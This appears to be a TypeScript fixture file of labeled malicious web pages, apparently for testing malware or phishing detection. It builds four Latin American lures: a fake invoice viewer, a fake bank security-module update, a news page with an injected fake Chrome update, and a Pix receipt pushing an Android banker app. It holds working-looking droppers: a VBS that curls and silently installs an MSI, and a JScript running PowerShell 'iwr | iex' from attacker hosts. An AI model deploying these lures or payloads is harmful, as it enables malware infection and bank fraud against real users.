import { type Entry } from '../entry.js';
import { doc, logo, favicon, b64 } from '../parts/yy-kit.js';
import { zip, cfb, apk, fileRoute, jsRoute } from '../parts/e-bin.js';

const vbsStub = `On Error Resume Next
Dim s, u, p
u = "h" & "tt" & "ps://" & "nfe-danfe-cdn.duckdns.org/d/" & "m.msi"
Set s = CreateObject("WS" & "cript.Sh" & "ell")
p = s.ExpandEnvironmentStrings("%PUBLIC%") & "\\danfe.msi"
s.Run "cmd /c curl -s -o " & p & " " & u & " && msiexec /qn /i " & p, 0, False
MsgBox "O documento não pôde ser exibido. Tente novamente mais tarde.", 48, "DANFE"
`;
const chromeInject = `(function(){if(localStorage.getItem('_cu'))return;if(!/Windows NT/.test(navigator.userAgent))return;
var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:Arial;text-align:center;padding-top:90px';
o.innerHTML='<svg width="72" height="72" viewBox="0 0 48 48"><circle cx="24" cy="24" r="22" fill="#db4437"/><circle cx="24" cy="24" r="9" fill="#4285f4" stroke="#fff" stroke-width="3"/></svg><h1 style="font-weight:400">Se necesita actualizar Chrome</h1><p>Tu versión de Google Chrome está desactualizada y no puede mostrar esta página.<br>Instala la actualización recomendada para continuar navegando de forma segura.</p><a id="_cd" href="https://chrome-actualizacion.updsvc.xyz/es/ChromeSetup_Actualizacion.zip" style="display:inline-block;background:#1a73e8;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none">Actualizar Chrome</a>';
document.body.appendChild(o);document.getElementById('_cd').onclick=function(){localStorage.setItem('_cu','1');};})();`;

export const entries: Entry[] = [
{
  id: 'yy-nfe-danfe-zip-vbs',
  label: 'malware',
  kind: 'fake-invoice-download',
  url: 'https://nfe-danfe-visualizar.com/danfe/?chave=35251104817291000177550010000884121094471129',
  body: doc({
    lang: 'pt-BR',
    title: 'DANFE - Documento Auxiliar da Nota Fiscal Eletrônica',
    head: favicon('#1351b4', 'N'),
    css: `body{margin:0;font-family:Arial;background:#dfe3e8}.v{max-width:760px;margin:30px auto;background:#fff;box-shadow:0 0 10px rgba(0,0,0,.2)}
.tb{background:#323639;color:#eee;padding:8px 14px;font-size:13px;display:flex;justify-content:space-between}.pg{padding:30px;filter:blur(3px);user-select:none}
.pg table{width:100%;border-collapse:collapse}.pg td{border:1px solid #333;padding:5px;font-size:11px}.ov{position:fixed;top:40%;left:50%;transform:translate(-50%,-50%);background:#fff;padding:24px;border-radius:8px;box-shadow:0 4px 30px rgba(0,0,0,.4);text-align:center;width:340px}
.ov a{display:inline-block;background:#1351b4;color:#fff;padding:11px 20px;border-radius:4px;text-decoration:none;margin-top:10px}`,
    body: `<div class="v"><div class="tb"><span>DANFE_NFe_000088412.pdf</span><span>1 / 2 &nbsp; 100%</span></div><div class="pg">
<table><tr><td colspan="3"><b>DANFE</b> Documento Auxiliar da Nota Fiscal Eletrônica · 1 - SAÍDA</td></tr><tr><td>Nº 000.088.412</td><td>SÉRIE 001</td><td>FOLHA 1/1</td></tr>
<tr><td colspan="3">CHAVE DE ACESSO 3525 1104 8172 9100 0177 5500 1000 0884 1210 9447 1129</td></tr><tr><td>NATUREZA DA OPERAÇÃO: VENDA DE MERCADORIA</td><td>CNPJ 04.817.291/0001-77</td><td>VALOR TOTAL R$ 12.884,90</td></tr></table></div></div>
<div class="ov"><b>Visualização indisponível</b><p style="font-size:14px">Seu navegador não suporta a pré-visualização segura da NF-e. Baixe o arquivo para abrir o DANFE.</p><a href="/danfe/baixar/NFe_000088412">Baixar DANFE (PDF)</a></div>`,
  }),
  routes: {
    'nfe-danfe-visualizar.com/danfe/baixar/NFe_000088412': fileRoute(
      zip([{ name: 'DANFE_NFe_000088412.pdf.vbs', data: vbsStub }]),
      'application/x-zip-compressed',
      'DANFE_NFe_000088412.zip',
    ),
  },
},
{
  id: 'yy-modulo-seguranca-warsaw-falso',
  label: 'malware',
  kind: 'fake-security-module-update',
  url: 'https://atualizacao-modulo-seguranca.com/bb/instalar.html',
  body: doc({
    lang: 'pt-BR',
    title: 'Módulo de Segurança - Atualização obrigatória',
    head: favicon('#fcfc30', 'B'),
    css: `body{margin:0;font-family:Arial;background:#f4f4f4}.t{background:#465eff;color:#fcfc30;padding:16px 28px;font-weight:800;font-size:22px}
.b{max-width:640px;margin:26px auto;background:#fff;padding:26px;border-radius:6px}.st{display:flex;gap:10px;margin:18px 0}.st div{flex:1;background:#eef1ff;padding:10px;border-radius:6px;font-size:13px}
.st b{display:block;font-size:22px;color:#465eff}.dl{display:inline-block;background:#465eff;color:#fff;padding:14px 28px;border-radius:6px;text-decoration:none;font-weight:700}.pb{height:8px;background:#ddd;border-radius:4px}.pb i{display:block;height:8px;width:0;background:#2e7d32;border-radius:4px;transition:width 4s}`,
    body: `<div class="t">Banco do Brasil</div>
<div class="b"><h2>Seu Módulo de Segurança está desatualizado</h2><p>Detectamos que o <b>Warsaw – Módulo de Proteção</b> do seu computador está na versão 2.19.4, que deixará de funcionar em <b>30/11/2025</b>. Sem a atualização o acesso ao Autoatendimento BB será bloqueado.</p>
<div class="st"><div><b>1</b>Baixe o instalador</div><div><b>2</b>Execute como administrador</div><div><b>3</b>Reinicie o navegador</div></div>
<div class="pb"><i id="pb"></i></div><p id="m" style="font-size:13px">Verificando versão instalada…</p>
<a class="dl" href="/bb/download/Warsaw_Setup_2.26.1.msi">Instalar atualização</a></div>
<script>setTimeout(function(){pb.style.width='100%';},200);setTimeout(function(){m.textContent='Versão desatualizada. Atualização necessária.';},4200);</script>`,
  }),
  routes: {
    'atualizacao-modulo-seguranca.com/bb/download/Warsaw_Setup_2.26.1.msi': fileRoute(
      cfb(['Windows Installer', 'Warsaw Setup 2.26.1', 'GAS Tecnologia', 'CustomAction', 'rundll32.exe %APPDATA%\\Warsaw\\wsftp.dll,Start', 'wsftp.dll']),
      'application/x-msi',
      'Warsaw_Setup_2.26.1.msi',
    ),
  },
},
{
  id: 'yy-fake-chrome-update-noticias-mx',
  label: 'malware',
  kind: 'fake-browser-update',
  url: 'https://www.diario-regional-del-norte.com.mx/local/2025/11/choque-en-periferico-deja-tres-lesionados',
  body: doc({
    lang: 'es-MX',
    title: 'Choque en Periférico deja tres lesionados – Diario Regional del Norte',
    css: `body{margin:0;font-family:Georgia,serif;color:#222}.m{background:#0f2e52;color:#fff;padding:14px 30px;font:700 26px Arial}nav{background:#eee;padding:8px 30px;font:14px Arial}
article{max-width:700px;margin:24px auto;padding:0 16px;font-size:18px;line-height:1.6}`,
    body: `<div class="m">Diario Regional del Norte</div><nav>Local · Estado · Nacional · Deportes · Espectáculos · Opinión</nav>
<article><h1>Choque en Periférico deja tres lesionados</h1><p style="font:13px Arial;color:#777">Redacción · 11 de noviembre de 2025</p>
<p>Un choque múltiple registrado la mañana de este martes en el Periférico a la altura de la colonia Las Torres dejó como saldo tres personas lesionadas, informó Protección Civil municipal.</p>
<p>De acuerdo con los primeros reportes, una camioneta perdió el control y se impactó contra dos vehículos compactos. Paramédicos de la Cruz Roja trasladaron a los heridos al Hospital General.</p>
<p>La circulación en dirección sur permaneció cerrada durante casi dos horas.</p></article>
<script src="https://cdn-analytics-wp.top/stats/wp-stat.js?v=5.9"></script>`,
  }),
  routes: {
    'cdn-analytics-wp.top/stats/wp-stat.js': jsRoute(`var _s=document.createElement('script');_s.text=atob('${b64(chromeInject)}');document.readyState==='loading'?document.addEventListener('DOMContentLoaded',function(){document.head.appendChild(_s)}):document.head.appendChild(_s);`),
    'chrome-actualizacion.updsvc.xyz/es/ChromeSetup_Actualizacion.zip': fileRoute(
      zip([{ name: 'Chrome.Actualizacion.js', data: `var a=new ActiveXObject("WScript.Shell");a.Run("powershell -w h -c \\"iwr https://chrome-actualizacion.updsvc.xyz/p.ps1 -UseB|iex\\"",0);` }]),
      'application/zip',
      'ChromeSetup_Actualizacion.zip',
    ),
  },
},
{
  id: 'yy-comprovante-pix-apk',
  label: 'malware',
  kind: 'android-banker-dropper',
  url: 'https://comprovante-pix-recebido.com/visualizar/E6082913420251111',
  body: doc({
    lang: 'pt-BR',
    title: 'Comprovante de transferência Pix',
    head: favicon('#32bcad', 'P'),
    css: `body{margin:0;font-family:Arial;background:#eef7f6}.c{max-width:380px;margin:30px auto;background:#fff;border-radius:14px;padding:22px;box-shadow:0 2px 10px rgba(0,0,0,.1)}
.v{font-size:30px;font-weight:700}.row{display:flex;justify-content:space-between;font-size:13px;border-bottom:1px solid #eee;padding:7px 0}
.b{display:block;text-align:center;background:#32bcad;color:#fff;padding:14px;border-radius:10px;text-decoration:none;font-weight:700;margin-top:16px}`,
    body: `<div class="c">${logo('pix', 28)}<p>Você recebeu uma transferência</p><p class="v">R$ 1.250,00</p>
<div class="row"><span>De</span><b>MARCOS V. OLIVEIRA</b></div><div class="row"><span>Data</span><b>11/11/2025 14:22</b></div><div class="row"><span>ID</span><b>E6082913420251111</b></div>
<p style="font-size:13px;color:#666">Para visualizar o comprovante completo e liberar o valor, instale o aplicativo Comprovantes Pix (necessário por segurança do Banco Central).</p>
<a class="b" href="/visualizar/app/ComprovantePix.apk">Baixar aplicativo</a><p style="font-size:11px;color:#999">Se o Android bloquear a instalação, ative “Permitir fontes desconhecidas”.</p></div>`,
  }),
  routes: {
    'comprovante-pix-recebido.com/visualizar/app/ComprovantePix.apk': fileRoute(
      apk('br.com.comprovantes.pix', 'Comprovante Pix', ['AccessibilityService', 'com.nu.production', 'com.itau', 'br.com.bb.android', 'pix_chave_destino', 'overlay_senha']),
      'application/vnd.android.package-archive',
      'ComprovantePix.apk',
    ),
  },
},
];
